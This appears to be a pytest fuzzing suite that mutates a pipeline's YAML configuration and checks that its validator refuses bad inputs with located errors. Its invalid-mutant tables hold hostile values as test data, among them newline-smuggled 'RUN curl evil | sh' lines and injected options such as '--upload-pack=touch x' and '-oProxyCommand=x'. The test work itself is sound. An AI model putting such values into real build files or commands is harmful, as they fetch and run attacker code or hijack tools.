"""A fuzzer of our own over the shipped configuration: hundreds of mutants from a fixed seed, each validated as a user
would run it. Whatever the input, validate exits 0 or 2 (never 70), every error line is `file:line:column: path:
message`, and a mutant declared invalid (it breaks a rule we promise to enforce) never passes."""

from __future__ import annotations

import math
import random
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline.cli import main

ROOT = Path(__file__).parents[2]
SEED = 20261124
TEXT_MUTANTS = 260
LOCATED = re.compile(r"^[\w./-]+\.yaml:\d+:\d+: .+?: .+")
CONFIG_FILES = sorted([ROOT / "models.yaml", *(ROOT / "thresholds").rglob("*.yaml"), *(ROOT / "golden").glob("*.yaml")])


@dataclass(frozen=True)
class Mutant:
    """One changed file of the configuration (or the settings file), and whether it must be refused."""

    name: str
    file: str  # relative to the configuration root, or "spark-nightly.yaml"
    text: str
    invalid: bool


def _text(file: str) -> str:
    return (ROOT / file).read_text()


def _data(file: str) -> Any:
    return yaml.safe_load(_text(file))


def _dump(data: Any) -> str:
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


# --- mutants declared invalid: each breaks a rule validate promises to enforce -------------------------------------


def _models(change: Callable[[dict[str, Any]], None]) -> str:
    data = _data("models.yaml")
    change(data)
    return _dump(data)


def _solo_spark_entry(data: dict[str, Any]) -> dict[str, Any]:
    return next(m for m in data["models"] if m["profile"] == "spark" and m.get("topology", {}).get("mode") != "cluster")


def _invalid_models(rng: random.Random) -> list[Mutant]:
    def entry(data: dict[str, Any]) -> dict[str, Any]:
        return _solo_spark_entry(data)

    changes: dict[str, Callable[[dict[str, Any]], None]] = {
        "image-as-option": lambda d: entry(d)["launch"].update(image="--privileged"),
        "image-with-newline": lambda d: entry(d)["launch"].update(image="vllm-node\nRUN curl evil | sh"),
        "nodes-in-the-matrix": lambda d: d["profiles"]["spark"].update(nodes=["spark-a", "spark-b"]),  # cluster.yaml
        "base-image-line": lambda d: d["profiles"]["spark"].update(base_image="ubuntu\nRUN curl evil | sh"),
        "index-url-line": lambda d: d["profiles"]["spark"]["torch"].update(index_url="https://x/\nRUN evil"),
        "index-url-option": lambda d: d["profiles"]["spark"]["torch"].update(index_url="--trusted-host=evil"),
        "torch-version-option": lambda d: d["profiles"]["spark"]["torch"].update(version="--pre"),
        "revision-option": lambda d: entry(d).update(revision="--trust-remote-code"),
        "extra-port": lambda d: entry(d).setdefault("serve", {}).update(extra_args=["--port", "9"]),
        "extra-host": lambda d: entry(d).setdefault("serve", {}).update(extra_args=["--host=0.0.0.0"]),
        "extra-dtype": lambda d: entry(d).setdefault("serve", {}).update(extra_args=["--dtype", "half"]),
        "extra-api-key": lambda d: entry(d).setdefault("serve", {}).update(extra_args=["--api-key", "s3cret"]),
        "extra-served-name": lambda d: entry(d).setdefault("serve", {}).update(extra_args=["--served_model_name=x"]),
        "solo-tp2": lambda d: entry(d).update(serve=dict(entry(d).get("serve", {}), tensor_parallel_size=2)),
        "driver-reversed": lambda d: d["profiles"]["spark"].update(driver={"min": "590", "below": "580"}),
        "driver-empty": lambda d: d["profiles"]["spark"].update(driver={"min": "580", "below": "580"}),
        "env-newline": lambda d: entry(d).update(env={"X": "a\nb"}),
        "nan-memory": lambda d: entry(d).setdefault("serve", {}).update(gpu_memory_utilization=math.nan),
        "duplicate-id": lambda d: d["models"][1].update(id=d["models"][0]["id"]),
        # a name that becomes a file or folder name: a few hundred characters crashed validate (File name too long)
        "id-too-long": lambda d: entry(d).update(id="x" * 300),
        "hardware-too-long": lambda d: d["profiles"]["spark"].update(hardware="h" * 300),
        "golden-set-too-long": lambda d: entry(d).update(golden="g" * 300),
        "profile-name-too-long": lambda d: d["profiles"].update({"p" * 300: d["profiles"]["spark"]}),
        "no-models": lambda d: d.pop("models"),
        "unknown-key": lambda d: d.update(modles=[]),
    }
    return [Mutant(name, "models.yaml", _models(change), True) for name, change in changes.items()]


def _invalid_thresholds(rng: random.Random) -> list[Mutant]:
    out = []
    for file in sorted(p.relative_to(ROOT).as_posix() for p in (ROOT / "thresholds").rglob("*.yaml")):
        for value in (math.nan, math.inf, -math.inf, "fast", -1):
            data = _data(file)
            cell = rng.choice(sorted(data["cells"]))
            data["cells"][cell]["ref"] = value
            out.append(Mutant(f"{file}:{cell}.ref={value}", file, _dump(data), True))
    return out


def _invalid_settings() -> list[Mutant]:
    settings = {
        "keep-zero": {"publish": {"keep_nights": 0}},
        "keep-negative": {"publish": {"keep_nights": -3}},
        "github-publish-no-repo": {"publish": {"target": "github"}},
        "github-alert-no-repo": {"alert": {"target": "github"}},
        "pr-word": {"sources": {"vllm": {"prs": ["abc"]}}},
        "pr-negative": {"sources": {"vllm": {"prs": ["-5"]}}},
        "ref-option": {"sources": {"vllm": {"ref": "--upload-pack=touch x"}}},
        "build-image-option": {"build": {"image": "--privileged"}},
        "api-elsewhere": {"github": {"api_url": "http://collector.example"}},
        "token-from-home": {"github": {"token_env": "HOME"}},
        "jobs-negative": {"build": {"max_jobs": -1}},
    }
    return [Mutant(name, "spark-nightly.yaml", _dump({"version": 1} | body), True) for name, body in settings.items()]


# --- random text mutants: anything may happen except a crash or an unlocated error ---------------------------------

_TEXT_EDITS = ("delete", "duplicate", "insert", "truncate", "indent", "tag", "scalar", "nest", "swap")
_SCALARS = (
    ".nan", "-.inf", "-5", "0", "abc", "''", "null", "[]", "{}", "-oProxyCommand=x", "1e999", "'a\\nb'", "~", "x" * 300,
)  # fmt: skip
_CHARACTERS = ("\x00", "\t", "\x1b", "\ufeff", ":", "-", "{", "[", "&a", "*a", "!", "%", "é", "\u2028")


def _text_mutant(rng: random.Random, number: int) -> Mutant:
    file = rng.choice(CONFIG_FILES).relative_to(ROOT).as_posix()
    lines = _text(file).splitlines(keepends=True)
    edit = rng.choice(_TEXT_EDITS)
    at = rng.randrange(len(lines))
    if edit == "delete":
        del lines[at]
    elif edit == "duplicate":
        lines.insert(at, lines[at])
    elif edit == "insert":
        column = rng.randrange(len(lines[at]) + 1)
        lines[at] = lines[at][:column] + rng.choice(_CHARACTERS) + lines[at][column:]
    elif edit == "truncate":
        lines = [*lines[:at], lines[at][: rng.randrange(len(lines[at]) + 1)]]
    elif edit == "indent":
        lines[at] = " " * rng.choice((1, 2, 3, 5)) + lines[at]
    elif edit == "tag":
        lines[at] = re.sub(r": (\S)", r": !env \1", lines[at], count=1)
    elif edit == "scalar":
        lines[at] = re.sub(r": [^\s#{\[][^#\n]*", f": {rng.choice(_SCALARS)}", lines[at], count=1)
    elif edit == "nest":
        depth = rng.choice((70, 200, 600))
        lines.insert(at, "deep: " + "[" * depth + "]" * depth + "\n")
    else:
        other = rng.randrange(len(lines))
        lines[at], lines[other] = lines[other], lines[at]
    return Mutant(f"text-{number}-{edit}-{file}", file, "".join(lines), False)


def _mutants() -> list[Mutant]:
    rng = random.Random(SEED)
    declared = _invalid_models(rng) + _invalid_thresholds(rng) + _invalid_settings()
    return declared + [_text_mutant(rng, number) for number in range(TEXT_MUTANTS)]


MUTANTS = _mutants()


def test_there_are_hundreds_of_mutants_and_dozens_declared_invalid() -> None:
    assert len(MUTANTS) >= 300
    assert sum(m.invalid for m in MUTANTS) >= 50


@pytest.fixture(scope="module")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("shipped")
    for path in CONFIG_FILES:
        target = base / path.relative_to(ROOT)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(path, target)
    return base


def test_every_mutant_exits_0_or_2_with_located_errors_and_declared_invalid_ones_never_pass(
    shipped: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    passed_invalid, crashed, unlocated = [], [], []
    outcomes = {0: 0, 2: 0}
    for number, mutant in enumerate(MUTANTS):
        root = tmp_path / f"m{number}"
        shutil.copytree(shipped, root)
        argv = ["validate"]
        if mutant.file == "spark-nightly.yaml":
            (root / "settings.yaml").write_text(mutant.text)
            argv = ["validate", "--settings", "settings.yaml"]
        else:
            (root / mutant.file).write_text(mutant.text)
        monkeypatch.chdir(root)
        code = main(argv)
        err = capsys.readouterr().err
        if code not in (0, 2):
            crashed.append((mutant.name, code, err[-300:]))
            continue
        outcomes[code] += 1
        if code == 0 and mutant.invalid:
            passed_invalid.append(mutant.name)
        if code == 2:
            lines = [line for line in err.splitlines() if line]
            bad = [line for line in lines[:-1] if not LOCATED.match(line)]
            if bad or not lines[-1].startswith("error: "):
                unlocated.append((mutant.name, bad[:2] or lines[-1:]))
        shutil.rmtree(root)
    print(f"\n{len(MUTANTS)} mutants: {outcomes[0]} valid, {outcomes[2]} refused")
    assert crashed == []
    assert passed_invalid == []
    assert unlocated == []
